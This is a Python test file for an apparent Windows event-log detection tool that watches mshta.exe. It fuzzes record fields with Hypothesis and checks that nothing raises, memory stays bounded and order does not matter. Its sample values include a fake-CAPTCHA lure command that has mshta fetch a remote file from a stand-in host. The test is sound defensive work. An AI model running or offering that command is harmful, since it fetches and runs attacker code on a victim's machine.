"""Records whose every field a stranger chose: nothing raises, memory stays bounded, and no order changes the result."""

from __future__ import annotations

from datetime import UTC, datetime, timedelta

from hypothesis import given
from hypothesis import strategies as st

from builders import SOURCE
from douse.harden.preflight import watch
from douse.harden.preflight.fleet import Fleet
from douse.harden.preflight.places import Places
from douse.harden.preflight.programs import program_of
from douse.harden.preflight.sightings import Sighter
from douse.harden.preflight.uses import uses_of
from douse.harden.preflight.watch import Watcher
from douse.hunt.assets import Assets
from douse.model import Event

MSHTA = "C:\\Windows\\System32\\mshta.exe"
TEXTS = st.one_of(
    st.sampled_from((
        MSHTA, "mshta.exe", "\\device\\harddiskvolume3\\windows\\system32\\mshta.exe", "MSHTA.EXE", "true", "%%14593",
        "0x275c", "10076", "{11111111-2222-3333-4444-555555555555}", "198.51.100.7", "10.0.0.3", "fe80::1%3", "8080",
        "443", "99999999", "-", "", "verify.example", "::ffff:198.51.100.7;type: 5 x.example", "6", "17", "CORP\\anna",
        "mshta https://verify.example/x.mp3 # I am not a robot", "C:\\Windows\\explorer.exe", "Trident/7.0",
        "O=MICROSOFT\\IE\\MSHTA.EXE\\1.0", "1", "S-1-5-21-1-2-3-4", "connectionsuccess", "x" * 5_000,
        "\ud800\u202e\x00")),
    st.text(max_size=12))
NAMES = ("Image", "NewProcessName", "Application", "ProcessId", "ProcessID", "NewProcessId", "ProcessGuid", "User",
         "CommandLine", "OriginalFileName", "ParentImage", "ParentProcessName", "Initiated", "Direction", "SourceIp",
         "SourceAddress", "DestinationIp", "DestAddress", "DestinationHostname", "DestinationPort", "DestPort",
         "Protocol", "QueryName", "QueryResults", "FilePath", "FileName", "Fqbn", "TargetUser", "SISigningScenario",
         "c-useragent", "src_ip", "cs-host", "dst_ip", "dst_port", "c-uri", "ActionType",
         "InitiatingProcessCommandLine", "InitiatingProcessVersionInfoOriginalFileName")
VALUES = st.one_of(TEXTS, st.integers(-5, 1 << 70), st.booleans(), st.none(), st.lists(TEXTS, max_size=2))
KINDS = st.sampled_from(sorted(watch._KINDS, key=str))
TIMES = st.sampled_from([datetime(2026, 11, 18, 9, tzinfo=UTC) + timedelta(seconds=step) for step in (0, 1, 3, 61, 9e4)]
                        + [datetime.min.replace(tzinfo=UTC), datetime.max.replace(tzinfo=UTC)])
IMAGES = st.sampled_from((MSHTA, MSHTA, "\\device\\harddiskvolume3\\windows\\syswow64\\MSHTA.exe", "C:\\x.exe"))
PIDS = st.sampled_from(("10076", "0x275c", "77"))
LIKELY = st.fixed_dictionaries({
    "Image": IMAGES, "NewProcessName": IMAGES, "Application": IMAGES, "FilePath": IMAGES, "ProcessId": PIDS,
    "ProcessID": PIDS, "NewProcessId": PIDS,
    "ProcessGuid": st.sampled_from(("", "{11111111-2222-3333-4444-555555555555}")),
    "Initiated": st.sampled_from(("true", "false")), "Direction": st.just("%%14593"),
    "DestinationIp": st.sampled_from(("198.51.100.7", "10.0.0.3", "10.0.0.4")), "DestAddress": st.just("198.51.100.7"),
    "DestinationPort": st.sampled_from(("443", "8080")), "DestPort": st.just("443"),
    "SourceIp": st.sampled_from(("10.0.0.3", "10.0.0.5")), "QueryName": st.just("verify.example"),
    "QueryResults": st.just("198.51.100.7"), "c-useragent": st.just("Trident/7.0"), "src_ip": st.just("10.0.0.3"),
    "cs-host": st.sampled_from(("verify.example", "b.example")), "CommandLine": TEXTS, "ActionType": st.sampled_from((
        "", "ConnectionSuccess", "ConnectionFailed", "InboundConnectionAccepted")),
})
EVENTS = st.builds(
    lambda kind, time, fields, odd, host, number: Event(
        channel=kind[0], event_id=kind[1], time=time, host=host, provider="", record_id=number, source=SOURCE,
        decode=lambda: {**fields, **odd}),
    KINDS, TIMES, LIKELY, st.dictionaries(st.sampled_from(NAMES), VALUES, max_size=3),
    st.sampled_from(("WS-01", "WS-01", "ws-01.corp.example", "", "10.0.0.3", "\x1b")), st.integers(0, 3))


def outcome(events: list[Event]) -> object:
    """All that a pre-flight makes of records before coverage."""
    watcher = Watcher(program_of("mshta"), scripts=True)
    for event in events:
        watcher.observe(event)
    fleet = Fleet(Assets(), watcher.hosts)
    sighter = Sighter(Places(), watcher.requests, fleet.host_at)
    found = uses_of([one for name in fleet.seen for host in fleet.of(name) for one in sighter.of(host, name, set())],
                    watcher.program)
    return found, sighter.unmatched, sighter.unplaced, fleet.unlisted


@given(st.lists(EVENTS, max_size=12), st.randoms(use_true_random=False))
def test_no_record_raises_and_no_order_matters(events: list[Event], order: object) -> None:
    first = outcome(events)
    mixed = [*events, *events[:3]]
    order.shuffle(mixed)  # type: ignore[attr-defined]  # a random.Random
    assert outcome(mixed) == first


def test_what_is_kept_does_not_grow_with_records() -> None:
    watcher = Watcher(program_of("mshta"))
    fields = {"Image": "C:\\Windows\\svchost.exe", "Initiated": "true", "SourceIp": "10.0.0.9", "ProcessId": "4"}
    start = datetime(2026, 11, 18, tzinfo=UTC)
    for number in range(5_000):
        watcher.observe(Event(channel=watch.SYSMON, event_id=3, time=start + timedelta(seconds=number), host="WS-01",
                              provider="", record_id=number, source=SOURCE, decode=lambda: fields))
    (host,) = watcher.hosts
    assert not host.connections.facts
    assert host.network == {"Sysmon 3": {start.toordinal()}}
    assert host.addresses == {"10.0.0.9"}


def test_too_many_hosts_are_told(monkeypatch) -> None:
    monkeypatch.setattr(watch, "MAX_HOSTS", 3)
    watcher = Watcher(program_of("mshta"))
    for number in range(9):
        watcher.observe(Event(channel=watch.SYSMON, event_id=1, time=datetime(2026, 11, 18, tzinfo=UTC),
                              host=f"WS-{number}", provider="", record_id=1, source=SOURCE, decode=dict))
    assert len(watcher.hosts) == 3
    assert watcher.hosts_left_out
